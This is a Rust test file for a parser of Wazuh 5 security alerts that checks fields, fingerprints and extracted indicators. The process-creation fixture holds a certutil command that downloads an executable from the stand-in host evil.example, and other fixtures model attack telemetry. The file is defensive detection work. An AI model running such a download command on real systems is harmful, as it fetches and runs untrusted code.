//! Findings of Wazuh 5.

use serde_json::{Value, json};
use wazuh_model::{Alert, Band, Family, Generation, Os, Outcome, OwnNetworks, View};

use super::alert;

#[test]
fn a_finding_of_wazuh_5_is_the_same_alert() {
    let finding = finding();
    let wrapped = alert(
        &json!({"_index": ".ds-wazuh-findings-v5-system-activity-000001", "_id": "Y9ds", "_source": serde_json::from_slice::<Value>(finding.original()).unwrap()}),
    );
    for alert in [&finding, &wrapped] {
        assert_eq!(alert.generation(), Generation::Five);
        assert_eq!((alert.rule().level, alert.rule().band()), (Some(8), Some(Band::Medium)));
        assert_eq!(
            alert.rule().description.as_deref(),
            Some("Monitored file deleted by wazuh-vm")
        );
        assert_eq!(alert.rule().mitre.ids, ["T1070", "T1485"]);
        let agent = alert.agent().unwrap();
        assert_eq!(
            (agent.id.as_deref(), agent.name.as_deref(), agent.os.as_deref()),
            (Some("003"), Some("Windows-11"), Some("Microsoft Windows 11 Pro"))
        );
        assert_eq!(
            (alert.cluster_node(), alert.location(), alert.decoder()),
            (Some("node01"), Some("syscheck"), Some("wazuh-fim"))
        );
        assert_eq!(
            (alert.id(), alert.source_ref().as_str()),
            (Some("JtdsTZ8B"), "node01/003/JtdsTZ8B")
        );
        assert_eq!(alert.time().unwrap().to_string(), "2026-07-10T19:06:10.438Z");
        assert_eq!(alert.uuid(), finding.uuid());
        let View::Ecs(view) = alert.view() else { panic!() };
        assert_eq!(
            (view.action.as_deref(), view.file.as_deref(), view.process_id),
            (Some("deleted"), Some("c:\\test\\hello.txt"), Some(5052))
        );
        assert_eq!(
            (view.user.as_deref(), view.categories.len(), view.category.as_deref()),
            (Some("wazuh-vm"), 1, Some("system-activity"))
        );
        assert_eq!(alert.fingerprint().family, wazuh_model::Family::Fim);
        assert_eq!(alert.assets()[0].os, Some(wazuh_model::Os::Windows));
        assert_eq!(alert.actors().files, ["c:\\test\\hello.txt"]);
    }
    for (path, text) in [
        ("rule.id", "c06abe18-8ffe-484f-861f-522f1ef89699"),
        ("rule.description", "Monitored file deleted by wazuh-vm"),
        ("rule.mitre.id", "T1070, T1485"),
        ("agent.name", "Windows-11"),
        ("location", "syscheck"),
        ("id", "JtdsTZ8B"),
        ("timestamp", "2026-07-10T19:06:10.438Z"),
        ("file.path", "c:\\test\\hello.txt"),
    ] {
        assert_eq!(
            finding.text(path).as_deref(),
            Some(text),
            "a path of 4.x leads to the same in 5.x"
        );
    }
    let mut other: Value = serde_json::from_slice(finding.original()).unwrap();
    other["wazuh"]["rule"]["id"] = json!("11111111-8ffe-484f-861f-522f1ef89699");
    assert_ne!(
        alert(&other).uuid(),
        finding.uuid(),
        "two rules that match one event make two alerts"
    );
}

#[test]
fn what_the_event_calls_timestamp_is_no_part_of_what_names_a_finding() {
    let finding = finding();
    let mut other: Value = serde_json::from_slice(finding.original()).unwrap();
    for own in [json!("1999-01-01T00:00:00Z"), json!(7), json!("x")] {
        other["timestamp"] = own;
        assert_eq!(alert(&other).uuid(), finding.uuid(), "{}", other["timestamp"]);
    }
    let key = r#"["node01","JtdsTZ8B","2026-07-10T19:06:10.438Z","c06abe18-8ffe-484f-861f-522f1ef89699"]"#;
    let expected = uuid::Uuid::new_v5(&wazuh_model::ALERT_NAMESPACE, key.as_bytes());
    assert_eq!(alert(&other).uuid(), expected, "the name that others can compute");
}

#[test]
fn a_flat_key_of_the_event_fills_nothing_that_a_finding_lacks() {
    let flat = alert(&json!({
        "wazuh": {"rule": {"id": "r", "level": "low"}},
        "wazuh.agent.name": "x", "wazuh.agent.groups": "vip", "wazuh.cluster.node": "x", "wazuh.protocol.location": "x",
        "wazuh.integration.name": "x", "wazuh.agent.host.ip": "10.0.0.1", "wazuh.rule.title": "x", "event.doc_id": "x",
        "event.original": "x", "wazuh.manager.name": "x"
    }));
    for path in [
        "agent.name",
        "agent.groups",
        "agent.ip",
        "cluster.node",
        "manager.name",
        "location",
        "decoder.name",
        "rule.description",
        "id",
        "full_log",
        "wazuh.agent.name",
        "wazuh.agent.groups",
        "wazuh.agent.host.ip",
    ] {
        assert_eq!((flat.get(path), flat.text(path)), (None, None), "{path}");
    }
    assert_eq!((flat.location(), flat.decoder(), flat.full_log()), (None, None, None));
    assert_eq!((flat.cluster_node(), flat.manager()), (None, None));
    let labelled = alert(&json!({
        "a.b": 1, "wazuh": {"rule": {"id": "r"}, "agent": {"labels": {"site.name": "hq", "site": {"code": "7"}}}}
    }));
    for (path, text) in [
        ("agent.labels.site.name", "hq"),
        ("wazuh.agent.labels.site.name", "hq"),
        ("agent.labels.site.code", "7"),
        ("a.b", "1"),
    ] {
        assert_eq!(labelled.text(path).as_deref(), Some(text), "{path}");
    }
}

fn finding() -> Alert {
    alert(&json!({
        "process": {"name": "explorer.exe", "pid": 5052}, "@timestamp": "2026-07-10T19:06:10.438Z",
        "file": {"path": "c:\\test\\hello.txt", "mode": "whodata", "hash": {"md5": "ad2d611e4b060351732574b64aeaeed7"}},
        "user": {"name": "wazuh-vm", "id": "S-1-5-21-1002"},
        "event": {"kind": "event", "action": "deleted", "category": ["file"], "outcome": "success", "doc_id": "JtdsTZ8B", "index": ".ds-wazuh-events-v5-system-activity-000001"},
        "wazuh": {
            "cluster": {"node": "node01", "name": "wazuh"}, "protocol": {"location": "syscheck", "queue": 56},
            "agent": {"id": "003", "name": "Windows-11", "version": "v5.0.0", "groups": ["default"], "host": {"hostname": "WINDOWS-11", "os": {"name": "Microsoft Windows 11 Pro", "type": "windows"}}},
            "integration": {"name": "wazuh-fim", "category": "system-activity", "decoders": ["decoder/wazuh-fim/0"]},
            "rule": {"id": "c06abe18-8ffe-484f-861f-522f1ef89699", "level": "medium", "title": "Monitored file deleted by wazuh-vm", "status": "stable", "tags": ["attack.impact"],
                     "compliance": {"pci_dss": ["6.2"]}, "mitre": {"technique": {"name": ["Indicator Removal", "Data Destruction"], "id": ["T1070", "T1485"]}, "tactic": {"name": ["Stealth"], "id": ["TA0005"]}}}
        }
    }))
}

/// A finding of an integration: the frame that every one has, around an event.
fn finding_of(integration: &str, category: &str, level: &str, event: &Value) -> Alert {
    let mut finding = json!({
        "@timestamp": "2026-07-10T19:06:10.438Z",
        "wazuh": {
            "cluster": {"node": "node01", "name": "wazuh"}, "protocol": {"location": "x", "queue": 49},
            "agent": {"id": "007", "name": "srv-01", "version": "v5.0.0", "groups": ["default"],
                      "host": {"hostname": "srv-01.corp.test-org.com", "ip": ["10.0.0.7", "fe80::7"], "os": {"name": "Ubuntu", "type": "linux"}}},
            "integration": {"name": integration, "category": category, "decoders": ["decoder/x/0"]}, "space": {"name": "standard"},
            "rule": {"id": "c06abe18-8ffe-484f-861f-522f1ef89699", "level": level, "title": "t", "status": "stable", "tags": ["attack.x"]}
        }
    });
    for (key, value) in event.as_object().unwrap() {
        finding[key] = value.clone();
    }
    alert(&finding)
}

fn indicators(alert: &Alert) -> Vec<(&'static str, String)> {
    let found = alert.indicators(&OwnNetworks::none());
    found
        .into_iter()
        .map(|one| (one.kind.iris_type_name(), one.value))
        .collect()
}

fn is(found: &[(&str, String)], expected: &[(&str, &str)]) {
    let found: Vec<_> = found.iter().map(|(kind, value)| (*kind, value.as_str())).collect();
    assert_eq!(found, expected);
}

#[test]
fn a_windows_log_on_is_told_as_in_4x() {
    let logon = finding_of(
        "windows",
        "access-management",
        "medium",
        &json!({
            "event": {"code": "4625", "action": "logon-failed", "category": ["authentication"], "outcome": "failure", "doc_id": "a", "original": "<Event/>"},
            "source": {"ip": "203.0.113.9", "port": 50123, "domain": "KALI"},
            "user": {"name": "SRV-01$", "domain": "CORP", "target": {"name": "administrator", "domain": "CORP"}},
            "process": {"executable": "C:\\Windows\\System32\\svchost.exe", "pid": 640},
            "host": {"ip": ["8.8.8.8"], "hostname": "srv-01"}
        }),
    );
    let actors = logon.actors();
    assert_eq!(actors.user().unwrap().name, "administrator");
    let from = &actors.sources[0];
    assert_eq!(
        (from.ip.as_deref(), from.host.as_deref(), from.port),
        (Some("203.0.113.9"), Some("KALI"), Some(50_123))
    );
    is(&indicators(&logon), &[("ip-src", "203.0.113.9")]);
    let fingerprint = logon.fingerprint();
    assert_eq!(
        (fingerprint.family, fingerprint.outcome),
        (Family::Auth, Some(Outcome::Failure))
    );
    assert!(fingerprint.is_complete() && fingerprint.parts.contains(&("source", "203.0.113.9".to_owned())));
    assert!(
        fingerprint
            .distinct
            .contains(&("target_user", "administrator".to_owned()))
    );
    let View::Ecs(view) = logon.view() else { panic!() };
    assert_eq!(
        (
            view.code.as_deref(),
            view.target_user.as_deref(),
            view.source_port,
            view.user_domain.as_deref()
        ),
        (Some("4625"), Some("administrator"), Some(50_123), Some("CORP"))
    );
}

#[test]
fn a_windows_process_is_told_with_its_parent() {
    // The parent stands before the process, as in every sorted document.
    let process = finding_of(
        "windows",
        "system-activity",
        "critical",
        &json!({
            "event": {"code": "1", "action": "Process creation", "category": ["process"], "doc_id": "b"},
            "process": {
                "parent": {"command_line": "cmd.exe /c start", "executable": "C:\\Windows\\System32\\cmd.exe", "pid": 1},
                "command_line": "certutil -urlcache -f http://evil.example/a.exe C:\\Windows\\Temp\\k3.exe",
                "executable": "C:\\Windows\\System32\\certutil.exe", "pid": 4060,
                "hash": {"md5": "087875B45857B2A20D4D64230AD402A4", "sha256": "31959c926cba0dae9dbfae47aee2ce00a2d41b0871b150d8551fe54049589d1c"}
            },
            "user": {"name": "m.lee", "domain": "CORP"}
        }),
    );
    assert_eq!(
        (process.rule().level, process.rule().band()),
        (Some(15), Some(Band::Critical))
    );
    let actors = process.actors();
    let (own, parent) = (actors.process.unwrap(), actors.parent.unwrap());
    assert!(own.command_line.unwrap().starts_with("certutil"));
    assert_eq!(parent.command_line.as_deref(), Some("cmd.exe /c start"));
    assert_eq!(parent.image.as_deref(), Some("C:\\Windows\\System32\\cmd.exe"));
    is(
        &indicators(&process),
        &[
            ("domain", "evil.example"),
            ("url", "http://evil.example/a.exe"),
            ("md5", "087875b45857b2a20d4d64230ad402a4"),
            (
                "sha256",
                "31959c926cba0dae9dbfae47aee2ce00a2d41b0871b150d8551fe54049589d1c",
            ),
        ],
    );
    assert_eq!(process.fingerprint().family, Family::Process);
    let View::Ecs(view) = process.view() else { panic!() };
    assert_eq!(
        (view.parent_command_line.as_deref(), view.parent_id),
        (Some("cmd.exe /c start"), Some(1))
    );
}

#[test]
fn a_call_to_a_cloud_is_told_as_in_4x() {
    let call = finding_of(
        "aws",
        "cloud-services",
        "high",
        &json!({
            "event": {"action": "StopLogging", "provider": "cloudtrail.amazonaws.com", "outcome": "success", "doc_id": "c"},
            "cloud": {"provider": "aws", "region": "eu-central-1", "account": {"id": "111122223333"}},
            "source": {"ip": "203.0.113.9", "address": "203.0.113.9"}, "user": {"name": "ci-deploy"},
            "user_agent": {"original": "aws-cli/2.1.0 (+https://docs.example/)"}, "related": {"ip": ["203.0.113.9"], "user": ["ci-deploy", "other"]}
        }),
    );
    assert_eq!(call.rule().level, Some(12));
    is(&indicators(&call), &[("ip-src", "203.0.113.9")]);
    let users: Vec<_> = call.actors().users.iter().map(|user| user.name.to_string()).collect();
    assert_eq!(users, ["ci-deploy"], "what is only related did nothing");
    let fingerprint = call.fingerprint();
    assert_eq!(
        (fingerprint.family, fingerprint.outcome),
        (Family::Cloud, Some(Outcome::Success))
    );
    assert_eq!(
        fingerprint.parts[1..],
        [
            ("event", "StopLogging".to_owned()),
            ("principal", "ci-deploy".to_owned())
        ]
    );
    let View::Ecs(view) = call.view() else { panic!() };
    assert_eq!(
        (
            view.cloud_provider.as_deref(),
            view.cloud_account.as_deref(),
            view.cloud_region.as_deref()
        ),
        (Some("aws"), Some("111122223333"), Some("eu-central-1"))
    );
}

#[test]
fn a_failed_ssh_log_on_is_told_as_in_4x() {
    let line =
        "Jul 10 19:06:10 srv-01 sshd[17]: Failed password for invalid user admin from 203.0.113.9 port 4022 ssh2";
    let fields = finding_of(
        "linux-auth",
        "access-management",
        "low",
        &json!({
            "event": {"category": ["authentication"], "outcome": "failure", "doc_id": "d", "original": line},
            "source": {"ip": "203.0.113.9", "port": 4022}, "user": {"name": "admin"}, "process": {"name": "sshd", "pid": 17}
        }),
    );
    let only_a_line = finding_of(
        "linux-auth",
        "access-management",
        "low",
        &json!({"event": {"category": ["authentication"], "original": line}}),
    );
    for alert in [&fields, &only_a_line] {
        assert_eq!(
            (alert.rule().level, alert.fingerprint().family),
            (Some(5), Family::Auth)
        );
        let actors = alert.actors();
        assert_eq!(
            (actors.sources[0].ip.as_deref(), actors.sources[0].port),
            (Some("203.0.113.9"), Some(4022))
        );
        assert_eq!(actors.users[0].name, "admin");
        is(&indicators(alert), &[("ip-src", "203.0.113.9")]);
        assert_eq!(alert.assets()[0].os, Some(Os::Linux));
    }
    assert_eq!(fields.fingerprint().key, only_a_line.fingerprint().key);
}

#[test]
fn what_a_sensor_saw_is_told_as_in_4x() {
    let seen = |destination: &str| {
        finding_of(
            "suricata",
            "network-activity",
            "informational",
            &json!({
                "event": {"kind": "alert", "category": ["network"], "doc_id": "e"}, "rule": {"name": "ET MALWARE X", "id": "2009582"},
                "source": {"ip": "10.0.0.5", "port": 50000}, "destination": {"ip": destination, "port": 80, "domain": "evil.example"},
                "url": {"domain": "Evil.Example", "path": "/gate.php", "original": "/gate.php"}, "tls": {"client": {"ja3": "087875b45857b2a20d4d64230ad402a4"}},
                "network": {"transport": "tcp", "protocol": "http"}
            }),
        )
    };
    let out = seen("203.0.113.9");
    assert_eq!((out.generation(), out.rule().level), (Generation::Five, Some(3)));
    assert_eq!(
        out.text("rule.id").as_deref(),
        Some("c06abe18-8ffe-484f-861f-522f1ef89699"),
        "the sensor's rule is not Wazuh's"
    );
    is(
        &indicators(&out),
        &[
            ("ip-dst", "203.0.113.9"),
            ("domain", "evil.example"),
            ("url", "http://evil.example/gate.php"),
        ],
    );
    let actors = out.actors();
    assert_eq!(actors.sources[0].ip.as_deref(), Some("10.0.0.5"));
    assert_eq!(
        (actors.destinations[0].host.as_deref(), actors.destinations[0].port),
        (Some("evil.example"), Some(80))
    );
    assert!(out.fingerprint().is_complete());
    // To a server of one's own the names are one's own.
    assert_eq!(
        indicators(&seen("10.0.0.9")).len(),
        1,
        "{:?}",
        indicators(&seen("10.0.0.9"))
    );
}

#[test]
fn a_vulnerability_is_told_as_in_4x() {
    let found = finding_of(
        "wazuh-vulnerability-detector",
        "security",
        "high",
        &json!({"vulnerability": {"id": "CVE-2024-3094", "severity": "Critical", "reference": "https://nvd.example/x"}, "package": {"name": "xz-utils", "version": "5.6.1.0"}}),
    );
    let fingerprint = found.fingerprint();
    assert_eq!(fingerprint.family, Family::Vulnerability);
    assert_eq!(
        fingerprint.parts[1..],
        [("cve", "CVE-2024-3094".to_owned()), ("package", "xz-utils".to_owned())]
    );
    is(&indicators(&found), &[]);
    let View::Ecs(view) = found.view() else { panic!() };
    assert_eq!(
        (view.vulnerability.as_deref(), view.package.as_deref()),
        (Some("CVE-2024-3094"), Some("xz-utils"))
    );
}
